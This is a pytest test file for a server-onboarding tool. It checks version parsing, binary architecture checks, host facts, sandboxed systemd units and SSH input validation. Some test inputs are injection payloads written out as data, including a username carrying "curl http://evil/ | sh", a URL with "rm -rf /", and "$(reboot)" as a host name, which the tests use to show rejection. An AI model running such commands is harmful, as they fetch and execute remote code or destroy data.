"""What onboarding decides without touching a host: versions, programs, facts, sources, batches, units."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import os
import struct
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coxswain.errors import CoxswainError, InvalidInput, NodeMisbehaved, NodeRefused
from coxswain.onboarding.binary import check_binary, display_version, is_newer, normalise_version
from coxswain.onboarding.candidate import candidate_version
from coxswain.onboarding.facts import (
    OURS,
    SCRIPT,
    check_fit,
    check_room,
    clock_words,
    has_no_uplink,
    read_absent,
    read_clock,
    read_facts,
)
from coxswain.onboarding.rollout import plan_batches
from coxswain.onboarding.service import last_words
from coxswain.onboarding.sources import Source, Sources, source_from
from coxswain.onboarding.units import egress_unit, ingress_unit, node_unit, onion_unit
from coxswain.servers import check_ssh_host, check_ssh_port, check_ssh_user
from coxswain.ssh import LocalHost
from coxswain.ssh.hostkey import algorithms_for, check_fingerprint, fingerprint_of, host_key_text, parse_host_key


@pytest.mark.parametrize(
    ("text", "version"),
    [
        ("0.3.2\n", "v0.3.2"),
        ("node version 0.3.2", "v0.3.2"),
        ("v1.2.3-rc.1", "v1.2.3-rc.1"),
        ("v1.2.3+dirty", "v1.2.3+dirty"),
        ("(devel)", ""),
        ("", ""),
        ("1.2", ""),
        ("v01.2.3", ""),
        (f"relay v1.2.{'9' * 5_000}", ""),
    ],
)
def test_versions_are_normalised(text, version):
    assert normalise_version(text) == version


@pytest.mark.parametrize(
    ("candidate", "present", "newer"),
    [
        ("0.3.2", "0.3.1", True),
        ("0.3.2", "0.3.2", False),
        ("0.3.2", "v0.3.10", False),
        ("1.0.0", "1.0.0-rc.1", True),
        ("1.0.0-rc.2", "1.0.0-rc.10", False),
        ("1.0.0-rc.1", "1.0.0-beta", True),
        ("1.0.0-alpha.1", "1.0.0-alpha", True),
        ("(devel)", "0.1.0", False),
        ("0.1.0", "", False),
        ("0.1.0", f"0.1.{'9' * 5_000}", False),
    ],
)
def test_only_what_is_known_and_greater_is_an_update(candidate, present, newer):
    assert is_newer(candidate, present) is newer


def test_versions_are_shown_short():
    assert display_version("v0.3.2") == "v0.3.2"
    assert display_version("v0.3.3-0.20260701120000-0123456789ab") == "v0.3.3-dev+0123456"
    assert display_version("what") == ""


def elf(machine, order=1):
    end = "<" if order == 1 else ">"
    return b"\x7fELF\x02" + bytes([order]) + b"\x01" + bytes(9) + struct.pack(f"{end}HH", 2, machine) + bytes(100)


def test_a_program_for_the_host_is_let_through():
    assert check_binary(elf(62), {"arch": "x86_64"}) == "ELF, x86_64"
    assert check_binary(elf(3), {"arch": "x86_64"}) == "ELF, i386"
    assert check_binary(elf(183), {"arch": "aarch64"})
    assert check_binary(elf(40), {"arch": "armv7l"})
    assert check_binary(elf(22, 2), {"arch": "s390x"})
    assert check_binary(b"#!/usr/bin/env python3\nPK", {"arch": "x86_64", "python": "3.11"}).startswith("script")
    assert check_binary(b"#!/bin/sh\n", {"arch": "x86_64", "python": ""})


@pytest.mark.parametrize(
    ("head", "facts", "says"),
    [
        (elf(183), {"arch": "x86_64"}, "for aarch64, and the host is x86_64"),
        (elf(62), {"arch": "i686"}, "for x86_64, and the host is i386"),
        (elf(9_999), {"arch": "x86_64"}, "machine 9999"),
        (b"#!/usr/bin/env python3\n", {"arch": "x86_64", "python": ""}, "needs Python 3"),
        (b"", {"arch": "x86_64"}, "empty"),
        (b"<!doctype html>", {"arch": "x86_64"}, "a web page"),
        (b"PK\x03\x04", {"arch": "x86_64"}, "neither ELF nor a script"),
        (b"\x7fELF", {"arch": "x86_64"}, "neither"),
    ],
)
def test_a_program_that_cannot_run_there_is_not(head, facts, says):
    with pytest.raises(NodeRefused, match=says):
        check_binary(head, facts)


@given(st.binary(max_size=200))
def test_no_bytes_make_it_stumble(head):
    with contextlib.suppress(NodeRefused):
        check_binary(head, {"arch": "x86_64", "python": "3.11"})


@given(st.text(max_size=2_000))
def test_no_output_of_a_host_makes_facts_stumble(output):
    try:
        facts = read_facts(output)
        assert all(len(value) <= 120 and value.isprintable() for value in facts.values())
        check_fit(facts)
    except (NodeMisbehaved, NodeRefused):
        pass


@given(st.lists(st.sampled_from([*OURS, "/etc/passwd", "", "x\ty"])))
def test_only_files_that_were_asked_for_are_absent(told):
    assert read_absent("".join(f"absent={path}\n" for path in told)) == set(told) & set(OURS)


@pytest.mark.parametrize("uid", [0, 1000])
def test_what_is_absent_is_told_by_root_alone(uid):
    """Anybody else cannot look everywhere, and would say so of what is hidden."""
    script = f"id() {{ echo 'uid={uid}(somebody)'; }}\n{SCRIPT}"
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
    assert read_facts(done.stdout)["uid"] == str(uid)
    assert read_absent(done.stdout) == (set() if uid else {path for path in OURS if not Path(path).exists()})


def test_what_was_absent_is_told_once():
    host = LocalHost()
    assert not host.was_absent(OURS[0])
    host.absent = set(OURS[:3])
    assert not host.was_absent(OURS[0], OURS[3])
    assert host.was_absent(OURS[0], OURS[1])
    assert not host.was_absent(OURS[1]) and host.was_absent(OURS[2])


@pytest.mark.parametrize(
    ("told", "says"),
    [
        ("clock=1700000000", ""),
        ("clock=1699999701", ""),
        ("clock=1699999000", "17 minutes behind"),
        ("clock=1700009000", "2 hours ahead"),
        ("clock=0", "19676 days behind"),
        ("clock=", ""),
        ("clock=soon", ""),
        ("", ""),
    ],
)
def test_a_clock_that_is_wrong_is_told_of(told, says):
    assert says in clock_words(read_clock(f"sudo=root\n{told}\n"), 1_700_000_000.0)
    assert bool(says) == bool(clock_words(read_clock(told), 1_700_000_000.0))


def test_a_host_tells_its_clock():
    done = subprocess.run(["sh", "-c", SCRIPT], capture_output=True, text=True, check=True)
    told = read_clock(done.stdout)
    assert told is not None and clock_words(told, time.time()) == ""


@pytest.mark.parametrize(
    ("printed", "uplink"),
    [
        ("echo 'default via 192.0.2.1 dev eth0 proto dhcp metric 100 '", "eth0"),
        ("echo 'default dev ppp0 scope link '; echo 'default via 192.0.2.1 dev eth1 metric 9 '", "ppp0"),
        ("printf 'default \\n\\tnexthop via 192.0.2.1 dev ens3 weight 1 \\n'", "ens3"),
        ("true", ""),
        ("echo 'unreachable default metric 99 '", ""),
        ("exit 1", None),
    ],
)
def test_the_uplink_is_that_of_the_first_default_route_as_agents_have_it(tmp_path, printed, uplink):
    (tmp_path / "ip").write_text(f'#!/bin/sh\n[ "$*" = "route show default" ] || exit 9\n{printed}\n')
    (tmp_path / "ip").chmod(0o755)
    env = os.environ | {"PATH": f"{tmp_path}:{os.environ['PATH']}"}
    done = subprocess.run(["sh", "-c", SCRIPT], env=env, capture_output=True, text=True, check=True)
    facts = read_facts(done.stdout)
    assert facts.get("uplink") == uplink
    assert has_no_uplink(facts) == (uplink == "")


def test_facts_say_what_is_missing():
    good = {"arch": "x86_64", "sudo": "root", "systemd": "252", "free_mb": "5000", "user": "root"}
    check_fit(good)
    for change, says in (
        ({"sudo": "no", "user": "ubuntu"}, "ubuntu may not become root"),
        ({"systemd": ""}, "no systemd"),
    ):
        with pytest.raises(NodeRefused, match=says):
            check_fit(good | change)
    check_fit(good | {"free_mb": "12"})
    with pytest.raises(NodeRefused, match="198\\.51\\.100\\.7: the host has 12 MB left"):
        check_room("198.51.100.7", good | {"free_mb": "12"})
    check_room("198.51.100.7", good | {"free_mb": "\N{SUPERSCRIPT TWO}"})
    with pytest.raises(NodeRefused) as caught:
        check_fit(good | {"sudo": "no", "user": "x'; curl http://evil/ | sh; '"})
    assert "evil" not in f"{caught.value} {caught.value.remedy}", "that is for a shell"


def test_where_programs_come_from(tmp_path):
    file = tmp_path / "node"
    file.write_bytes(b"agent")
    digest = hashlib.sha256(b"agent").hexdigest()
    configured = {
        "node.binary_path": str(file),
        "node.node_binary_url": "https://x.example/n",
        "node.node_binary_sha256": "a" * 64,
    }
    sources = Sources(lambda name: configured.get(name, ""))
    assert sources.node({}) == Source(path=str(file), sha256=digest), "a file goes before a URL"
    given_url = {"url": "https://y.example/n", "sha256": "B" * 64}
    assert sources.node(given_url) == Source(url="https://y.example/n", sha256="b" * 64)
    del configured["node.binary_path"]
    assert sources.node({}).url == "https://x.example/n"
    with pytest.raises(InvalidInput, match="no program to install") as lacking:
        sources.relay({})
    assert "set relay.binary_path" in lacking.value.remedy
    for path, url, sha256, says in (
        (str(file), "https://x.example", "a" * 64, "one of them"),
        (str(tmp_path / "none"), "", "", "cannot be read"),
        ("", "ftp://x.example", "a" * 64, "https"),
        ("", "https://x.example/'; rm -rf /", "a" * 64, "https"),
        ("", "https://x.example", "", "SHA-256"),
        ("", "https://x.example", "xyz", "SHA-256"),
    ):
        with pytest.raises(InvalidInput, match=says):
            source_from(path, url, sha256, "binary, url")


def test_the_version_of_a_candidate_is_read_and_not_run(tmp_path):
    go = tmp_path / "go"
    go.write_bytes(b"\x7fELF" + bytes(1_000) + b"\npath\tx\nmod\tgithub.com/pharos/node\tv0.3.2\th1:abc=\n" + bytes(1_000))
    assert candidate_version(str(go)) == "v0.3.2"
    zipapp = tmp_path / "zipapp"
    with zipapp.open("wb") as file:
        file.write(b"#!/usr/bin/env python3\n")
        with zipfile.ZipFile(file, "w") as archive:
            archive.writestr("site-packages/coxswain-0.4.0.dist-info/METADATA", "")
    assert candidate_version(str(zipapp)) == "v0.4.0"
    (tmp_path / "script").write_text("#!/bin/sh\n")
    (tmp_path / "empty").touch()
    for name in ("script", "empty", "none"):
        assert candidate_version(str(tmp_path / name)) == ""
    assert candidate_version("") == ""


def go_program(modules: str, *, flags: int = 2, at: int = 4096) -> bytes:
    """As the Go linker lays it out (relay-contract.md 7.6)."""
    text = bytes(range(16)) + modules.encode() + bytes(range(16))
    strings = b"".join(_uvarint(len(part)) + part for part in (b"go1.25.1", text))
    head = b"\xff Go buildinf:" + bytes([8, flags]) + bytes(16)
    return b"\x7fELF".ljust(at, b"\0") + head + strings + bytes(100)


def _uvarint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


@pytest.mark.parametrize(
    ("modules", "version"),
    [
        ("path\tx/cmd\nmod\tx\tv0.1.1\t\n", "v0.1.1"),
        ("path\tx/cmd\nmod\tx\tv0.1.1\nbuild\t-compiler=gc\n", "v0.1.1"),
        ("mod\tx\tv0.1.1\th1:abc=\n", "v0.1.1"),
        ("path\tx\nmod\tx\t(devel)\t\ndep\tmod\tv3.0.0\t\n", ""),
        ("path\tx\nmod\tx\t\t\n" + "dep\ty\tv1.0.0\t\n" * 20, ""),
        ("path\tx\n", ""),
    ],
)
def test_the_version_of_a_go_program_is_what_its_build_information_says(tmp_path, modules, version):
    program = tmp_path / "relay"
    decoys = b"\nmod\tother\tv9.9.9\t\n\xff Go buildinf:\x08\x02"  # in the data of the program: not where it belongs
    program.write_bytes(go_program(modules).replace(bytes(60), decoys.ljust(60, b"\0"), 1))
    assert candidate_version(str(program)) == version


@pytest.mark.parametrize("length", [0, 5, 14, 20, 33, 41, 42, 60])
def test_build_information_that_is_cut_off_says_nothing(tmp_path, length):
    program = tmp_path / "relay"
    program.write_bytes(go_program("mod\tx\tv0.1.1\t\n")[: 4096 + length])
    assert candidate_version(str(program)) == ""


@given(st.lists(st.integers(), max_size=40), st.integers(0, 5), st.integers(1, 7))
def test_batches_hold_every_node_once_in_order(nodes, canary, batch):
    batches = plan_batches(nodes, canary, batch)
    assert [node for part in batches for node in part] == nodes
    assert all(len(part) <= batch for part in batches[1 if canary else 0 :])
    if canary and nodes:
        assert batches[0] == nodes[:canary]


LINES = (
    "NoNewPrivileges=yes",
    "ProtectSystem=strict",
    "Restart=on-failure",
    "RestartSec=5",
    "After=network-online.target",
    "WantedBy=multi-user.target",
)


def test_units_are_sandboxed_and_start_inner_links_first():
    for unit in (node_unit("cox-node"), node_unit("root"), ingress_unit(), egress_unit(8456), onion_unit(8457)):
        for line in LINES:
            assert line in unit.splitlines()
    node = node_unit("root").splitlines()
    assert "ExecStart=/usr/local/bin/node run --config-dir /etc/node" in node
    before = next(line for line in node if line.startswith("ExecStartPre="))
    assert before.startswith("ExecStartPre=-"), "an inner link that does not come up must not keep the agent down"
    assert "CAP_NET_BIND_SERVICE" in ingress_unit() and "CAP_NET_ADMIN" not in ingress_unit()


@pytest.mark.parametrize(
    ("unit", "account", "capabilities"),
    [
        (node_unit("cox-node"), "cox-node", "CAP_NET_ADMIN CAP_NET_BIND_SERVICE"),
        (ingress_unit(), "cox-relay", "CAP_NET_BIND_SERVICE"),
        (egress_unit(8456), "cox-relay", "CAP_NET_BIND_SERVICE"),
        (onion_unit(8457), "cox-relay", "CAP_NET_BIND_SERVICE"),
    ],
)
def test_units_have_no_root_and_nothing_in_them_is_run_as_root(unit, account, capabilities):
    lines = unit.splitlines()
    assert f"User={account}" in lines and f"Group={account}" in lines
    assert f"AmbientCapabilities={capabilities}" in lines and f"CapabilityBoundingSet={capabilities}" in lines
    assert not [line for line in lines if line.startswith("Exec") and line.split("=", 1)[1].lstrip("-@:")[0] in "+!"]


@pytest.mark.parametrize(
    ("name", "unit"),
    [("user", node_unit("cox-node")), ("root", node_unit("root")), ("ingress", ingress_unit()), ("onion", onion_unit(8457))],
)
def test_systemd_understands_units(name, unit, tmp_path):
    path = tmp_path / f"cox-{name}.service"
    program = tmp_path / "program"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    path.write_text(unit.replace("/usr/local/bin/node", str(program)).replace("/usr/local/bin/relay", str(program)))
    told = subprocess.run(["systemd-analyze", "verify", "--man=no", path], check=False, capture_output=True, text=True)
    assert [line for line in told.stderr.splitlines() if path.name in line] == [], told.stderr


def host_key(kind="ssh-ed25519", size=32):
    blob = struct.pack(">I", len(kind)) + kind.encode() + struct.pack(">I", size) + bytes(size)
    return host_key_text(kind, blob)


def test_host_keys_as_text():
    text = host_key()
    kind, blob = parse_host_key(text + " root@host")
    assert (kind, fingerprint_of(text)) == (
        "ssh-ed25519",
        "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("="),
    )
    assert check_fingerprint(fingerprint_of(text))
    assert algorithms_for(text) == ("ssh-ed25519",)
    assert algorithms_for(host_key("ssh-rsa")) == ("rsa-sha2-512", "rsa-sha2-256")
    assert "ssh-rsa" not in algorithms_for("")
    wrong = f"ssh-ed25519 {host_key('ssh-rsa').split()[1]}"
    for bad in ("", "ssh-ed25519", "ssh-dss AAAA", "ssh-ed25519 !!!", "ssh-ed25519 AAAA", wrong):
        with pytest.raises(InvalidInput):
            parse_host_key(bad)
    for bad in ("MD5:00:11", "SHA256:short", "SHA256:" + "A" * 44):
        with pytest.raises(InvalidInput):
            check_fingerprint(bad)


@given(st.text(max_size=300))
def test_no_text_makes_them_stumble(text):
    for check in (parse_host_key, check_fingerprint, check_ssh_host, check_ssh_user):
        with contextlib.suppress(CoxswainError):
            check(text)


def test_addresses_users_and_ports():
    assert check_ssh_host("198.51.100.7") == "198.51.100.7"
    assert check_ssh_host("2001:db8::1") == "2001:db8::1"
    assert check_ssh_host("a.example") == "a.example"
    assert check_ssh_port(0) == 22
    for host in ("", "a b", "a.example:22:33", "-x", "$(reboot)", "a;b"):
        with pytest.raises(InvalidInput):
            check_ssh_host(host)
    for user in ("", "Root", "a b", "-x", "root;id"):
        with pytest.raises(InvalidInput):
            check_ssh_user(user)
    with pytest.raises(InvalidInput):
        check_ssh_port(70_000)


def test_what_a_service_printed_over_and_over_is_said_once_in_whole_lines() -> None:
    again = [f"time=2026-11-27 12:06:{n:02},744 level=WARNING msg=there is no default route {'x' * 100}" for n in range(15)]
    first = "time=2026-11-27T12:05:59.001Z level=INFO msg=listening"
    said = last_words("\n".join([first, *again]) + "\n")
    assert said == f"{first}\n{again[-1]}", "the same but for its time is said once, the last time"


def test_what_a_service_printed_is_cut_between_lines_and_the_end_is_kept() -> None:
    lines = [f"line {n} {'x' * 200}" for n in range(15)]
    said = last_words("\n".join(lines))
    assert said == "\n".join(lines[-4:])
    assert len(said) <= 1_000
    assert last_words("a" + "b" * 2_000) == "b" * 1_000, "one line that is too long is cut all the same"
    assert last_words(" \n") == "it printed nothing"
